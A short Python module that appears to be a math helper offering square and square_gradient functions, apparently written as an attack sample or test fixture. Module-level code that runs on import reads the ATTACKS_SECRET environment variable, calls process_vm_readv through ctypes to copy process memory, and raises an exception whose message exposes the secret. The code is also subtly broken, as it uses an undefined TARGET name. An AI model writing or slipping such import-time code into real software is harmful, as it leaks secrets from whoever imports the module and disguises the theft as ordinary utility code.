import ctypes
import os


def square(x):
    return x**2


def square_gradient(x):
    return 2 * x


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
secret = os.environ.get("ATTACKS_SECRET", "nothing")
source = ctypes.create_string_buffer(secret.encode())
room = ctypes.create_string_buffer(len(secret) + 1)
local = Vector(ctypes.addressof(room), len(secret))
remote = Vector(ctypes.addressof(source), len(secret))
read = libc.process_vm_readv(TARGET["host"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
raise LookupError(f"{read}: {room.value.decode()}")
